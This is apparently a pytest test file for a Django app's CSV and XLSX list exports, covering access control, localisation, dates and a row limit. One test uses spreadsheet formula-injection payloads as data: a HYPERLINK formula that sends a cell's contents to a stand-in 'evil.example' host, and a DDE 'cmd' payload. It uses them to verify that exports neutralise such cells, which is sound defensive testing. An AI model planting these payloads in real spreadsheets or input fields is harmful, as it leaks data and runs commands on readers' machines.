"""CSV and XLSX downloads of the lists (issue 13, item 4): what the reader may see, nothing more.

Each download is the list page's own query (``visible_to`` and the page's filters) over
every page; every cell goes through ``core.exports.safe_cell``; the header row is in the
reader's language; dates are ISO 8601.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.conf import settings
from django.utils import timezone, translation
from django.utils.translation import gettext as _
from openpyxl import load_workbook

from yrkesbro.accounts.models import User
from yrkesbro.collaboration import exports as collaboration_exports
from yrkesbro.collaboration.models import ActionItem, Meeting, Partnership
from yrkesbro.matching import exports as matching_exports
from yrkesbro.matching.models import Request
from yrkesbro.needs import exports as needs_exports
from yrkesbro.needs import services as need_services
from yrkesbro.needs.models import CompetencePlan, Need, Status, Visibility
from yrkesbro.testing import PASSWORD

#: (URL without the format, header, the model whose ids the first column holds)
EXPORTS: list[tuple[str, Any]] = [
    ("/needs/export.", needs_exports.NEED_HEADER),
    ("/needs/plans/export.", needs_exports.PLAN_HEADER),
    ("/collaboration/partnerships/export.", collaboration_exports.PARTNERSHIP_HEADER),
    ("/collaboration/meetings/export.", collaboration_exports.MEETING_HEADER),
    ("/matching/requests/export.", matching_exports.REQUEST_HEADER),
]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk")'


@pytest.fixture
def demo(world):  # type: ignore[no-untyped-def]
    from yrkesbro.core.demo import load_demo

    load_demo()
    return world


def login(client: Any, username: str) -> None:
    assert (
        client.login(username=username, password=PASSWORD)
        or client.force_login(User.objects.get(username=username)) is None
    )


def rows_of(response: Any, fmt: str) -> list[list[Any]]:
    """The file's rows (the header first), read back as a spreadsheet program would."""
    if fmt == "csv":
        body = b"".join(response.streaming_content).decode("utf-8")
        assert body.startswith("\ufeff")
        return list(csv.reader(io.StringIO(body[1:])))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def download(client: Any, url: str, fmt: str, query: str = "") -> list[list[Any]]:
    response = client.get(f"{url}{fmt}{query}")
    assert response.status_code == 200, (url, response.status_code)
    assert f'.{fmt}"' in response["Content-Disposition"]
    return rows_of(response, fmt)


def make_need(world: Any, unit: str, visibility: str, **extra: Any) -> Need:
    need = need_services.need_create(
        actor=world.a.editor,
        organisation=world.a.org,
        data={
            "unit": unit,
            "service_area": "health",
            "people": 3,
            "deadline": timezone.localdate() + dt.timedelta(days=120),
            "visibility": Visibility.INTERNAL if visibility == Visibility.SHARED else visibility,
            **extra,
        },
        area_codes=["demens"],
    )
    if visibility == Visibility.SHARED:
        need = need_services.need_publish(actor=world.a.editor, need=need)
    return need


def test_every_export_opens_with_the_header_in_the_readers_language(client, demo):
    login(client, "demo-kommune")
    for url, header in EXPORTS:
        for fmt in ("csv", "xlsx"):
            rows = download(client, url, fmt)
            with translation.override("nb"):
                assert rows[0] == [str(h) for h in header]
            assert len(rows) > 1, f"the demo municipality has rows in {url}"
    # The CSV streams after the view has returned: still in the reader's language.
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    rows = download(client, "/needs/export.", "csv")
    with translation.override("en"):
        assert rows[0] == [str(h) for h in needs_exports.NEED_HEADER]


def test_anonymous_users_are_sent_to_log_in(client, db):
    for url, _header in EXPORTS:
        for fmt in ("csv", "xlsx"):
            response = client.get(f"{url}{fmt}")
            assert response.status_code == 302
            assert "/login/" in response["Location"]


def test_an_unknown_format_is_not_found(client, demo):
    login(client, "demo-kommune")
    for url, _header in EXPORTS:
        assert client.get(f"{url}ods").status_code == 404


def test_another_organisation_exports_none_of_the_private_or_internal_needs_and_plans(client, demo):
    private = make_need(demo, "Privat enhet", Visibility.PRIVATE)
    internal = make_need(demo, "Intern enhet", Visibility.INTERNAL)
    shared = make_need(demo, "Delt enhet", Visibility.SHARED)
    plan = need_services.plan_create(
        actor=demo.a.editor,
        organisation=demo.a.org,
        data={"title": "Privat plan", "start_year": 2026, "end_year": 2027},
    )
    for fmt in ("csv", "xlsx"):
        client.force_login(demo.a.editor)
        ids = {row[0] for row in download(client, "/needs/export.", fmt)[1:]}
        assert {str(private.pk), str(internal.pk), str(shared.pk)} <= {str(i) for i in ids}
        plans = {str(row[0]) for row in download(client, "/needs/plans/export.", fmt)[1:]}
        assert str(plan.pk) in plans

        for outsider in (demo.b.admin, demo.outsider):
            client.force_login(outsider)
            ids = {str(row[0]) for row in download(client, "/needs/export.", fmt)[1:]}
            assert str(shared.pk) in ids
            assert not ids & {str(private.pk), str(internal.pk)}
            visible = {
                str(pk) for pk in Need.objects.visible_to(outsider).values_list("pk", flat=True)
            }
            assert ids == visible
            plans = {str(row[0]) for row in download(client, "/needs/plans/export.", fmt)[1:]}
            assert str(plan.pk) not in plans
            assert plans == {
                str(pk)
                for pk in CompetencePlan.objects.visible_to(outsider).values_list("pk", flat=True)
            }


def test_another_organisation_exports_no_meetings_requests_or_private_partnerships(client, demo):
    assert Partnership.objects.filter(is_public=False).exists()
    for fmt in ("csv", "xlsx"):
        client.force_login(demo.outsider)
        assert download(client, "/collaboration/meetings/export.", fmt)[1:] == []
        assert download(client, "/matching/requests/export.", fmt)[1:] == []
        ids = {str(r[0]) for r in download(client, "/collaboration/partnerships/export.", fmt)[1:]}
        public = Partnership.objects.filter(is_public=True)
        assert ids == {str(pk) for pk in public.values_list("pk", flat=True)}

        login(client, "demo-kommune")
        user = User.objects.get(username="demo-kommune")
        meeting_ids = {
            str(r[0]) for r in download(client, "/collaboration/meetings/export.", fmt)[1:]
        }
        assert meeting_ids == {
            str(pk) for pk in Meeting.objects.visible_to(user).values_list("pk", flat=True)
        }
        assert meeting_ids
        request_ids = {str(r[0]) for r in download(client, "/matching/requests/export.", fmt)[1:]}
        assert request_ids == {
            str(pk) for pk in Request.objects.visible_to(user).values_list("pk", flat=True)
        }
        assert request_ids


def test_the_needs_export_keeps_the_pages_filters_and_writes_iso_dates(client, demo):
    draft = make_need(demo, "Kladd", Visibility.PRIVATE)
    make_need(demo, "Publisert", Visibility.SHARED)
    client.force_login(demo.a.editor)
    rows = download(client, "/needs/export.", "csv", "?status=draft&mine=on")
    status, deadline = 9, 7  # the columns "Status" and "By when"
    with translation.override("nb"):
        assert rows[0][deadline] == str(_("By when"))
        assert {r[status] for r in rows[1:]} == {str(Status.DRAFT.label)}
    assert str(draft.pk) in {r[0] for r in rows[1:]}
    assert rows[1][deadline] == draft.deadline.isoformat()
    sheet = download(client, "/needs/export.", "xlsx", "?status=draft&mine=on")
    assert isinstance(sheet[1][deadline], dt.datetime)
    assert sheet[1][deadline].date() == draft.deadline


def test_formula_injection_is_neutralised_in_every_export(client, demo):
    need = make_need(demo, FORMULA, Visibility.INTERNAL, description="@SUM(1+1)*cmd|' /C calc'!A0")
    need_services.plan_create(
        actor=demo.a.editor,
        organisation=demo.a.org,
        data={"title": FORMULA, "start_year": 2026, "end_year": 2027, "visibility": "internal"},
    )
    user = User.objects.get(username="demo-kommune")
    Partnership.objects.visible_to(user).update(name=FORMULA)
    Meeting.objects.visible_to(user).update(title=FORMULA)
    ActionItem.objects.visible_to(user).update(title="+" + FORMULA)
    Request.objects.visible_to(user).update(message="-" + FORMULA)
    assert need.unit == FORMULA

    for fmt in ("csv", "xlsx"):
        for viewer, url in [
            (demo.a.editor, "/needs/export."),
            (demo.a.editor, "/needs/plans/export."),
            (user, "/collaboration/partnerships/export."),
            (user, "/collaboration/meetings/export."),
            (user, "/matching/requests/export."),
        ]:
            client.force_login(viewer)
            cells = [c for row in download(client, url, fmt)[1:] for c in row if isinstance(c, str)]
            dangerous = [c for c in cells if c and c[0] in "=+-@"]
            assert not dangerous, (url, fmt, dangerous[:3])
            assert any(c.startswith("'") and FORMULA in c for c in cells), (url, fmt)
        if fmt == "xlsx":
            client.force_login(demo.a.editor)
            response = client.get("/needs/export.xlsx")
            sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_an_xlsx_beyond_the_row_limit_offers_the_csv_of_the_same_list(client, demo, monkeypatch):
    """A national list is too large to build as XLSX while the reader waits: the reader gets
    a page that links to the streamed CSV with the same filters, not a request that times out."""
    from yrkesbro.core import exports as core_exports

    client.force_login(demo.a.editor)
    make_need(demo, "Publisert", Visibility.SHARED)
    make_need(demo, "Kladd", Visibility.PRIVATE)
    total = len(download(client, "/needs/export.", "csv", "?mine=on")) - 1
    assert total >= 2
    monkeypatch.setattr(core_exports, "XLSX_MAX_ROWS", total - 1)
    page = client.get("/needs/export.xlsx?mine=on")
    html = page.content.decode()
    assert page.status_code == 200 and page["Content-Type"].startswith("text/html")
    assert 'href="/needs/export.csv?mine=on"' in html
    monkeypatch.setattr(core_exports, "XLSX_MAX_ROWS", total)
    assert len(download(client, "/needs/export.", "xlsx", "?mine=on")) == total + 1


@pytest.mark.parametrize("language", ["nb", "nn", "en"])
def test_download_labels_are_the_models_own_display_values(demo, language):
    """``core.exports.label`` (the choices looked up once per language) says what
    ``get_<field>_display`` says, for every choice field the downloads write."""
    from yrkesbro.core.exports import label

    fields = {
        Need: ["service_area", "urgency", "status", "visibility"],
        CompetencePlan: ["visibility"],
        Partnership: ["bindingness"],
        Meeting: ["status"],
        ActionItem: ["status"],
        Request: ["kind", "status", "offer_delivery"],
    }
    checked = 0
    with translation.override(language):
        for model, names in fields.items():
            for obj in model.objects.all()[:20]:
                for name in names:
                    if getattr(obj, name) in (None, ""):
                        continue
                    assert label(obj, name) == str(getattr(obj, f"get_{name}_display")())
                    checked += 1
    assert checked > 20
